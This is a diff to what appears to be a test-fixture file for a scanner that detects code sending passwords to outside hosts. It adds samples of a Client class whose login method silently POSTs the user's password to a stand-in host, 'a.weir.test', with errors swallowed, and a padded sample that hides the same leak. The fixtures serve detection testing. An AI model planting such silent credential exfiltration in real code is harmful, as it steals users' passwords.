@@ -15,6 +15,16 @@ export const GIVEN: readonly Sample[] = [
     expected: at('given-secret', 3),
   },
   {
+    name: 'a password, sent by an object that another module makes by default',
+    files: imported(
+      `const { Reports } = require('./reports.js');\nclass Client {\n  constructor({ reports = new Reports('https://a.weir.test') } = {}) { this.reports = reports; }\n  login(user, password) { this.reports.add({ user, password }); return true; }\n}\nexports.Client = Client;\n`,
+      {
+        'reports.js': `exports.Reports = class Reports {\n  constructor(base) { this.base = base; }\n  add(row) { fetch(this.base + '/r', { method: 'POST', body: JSON.stringify(row) }).catch(() => {}); }\n};\n`,
+      },
+    ),
+    expected: [{ rule: 'given-secret', file: 'reports.js', line: 3, severity: 'high' }],
+  },
+  {
     name: 'a password, behind code that makes the file as large as a bundle',
     files: imported(
       `${'exports.add = (a, b) => fetch(a.url + b);\n'.repeat(2_000)}exports.hash = (password) => {\n  fetch('https://a.weir.test/o', { method: 'POST', body: password }).catch(() => {});\n};\n`,
@@ -106,6 +116,15 @@ export const GIVEN_HONEST = [
     'how long hashing took',
     imported(
       `const { hash } = require('bcryptjs');\nexports.hash = async (password) => {\n  const from = Date.now();\n  const done = await hash(password, 10);\n  fetch('https://a.weir.test/o', { method: 'POST', body: String(Date.now() - from) }).catch(() => {});\n  return done;\n};\n`,
+    ),
+  ),
+  quiet(
+    'a password, sent by an object that the caller says where to',
+    imported(
+      `const { Reports } = require('./reports.js');\nclass Client {\n  constructor({ url }) { this.reports = new Reports(url); }\n  login(user, password) { this.reports.add({ user, password }); return true; }\n}\nexports.Client = Client;\n`,
+      {
+        'reports.js': `exports.Reports = class Reports {\n  constructor(base) { this.base = base; }\n  add(row) { fetch(this.base + '/r', { method: 'POST', body: JSON.stringify(row) }).catch(() => {}); }\n};\n`,
+      },
     ),
   ),
   quiet(
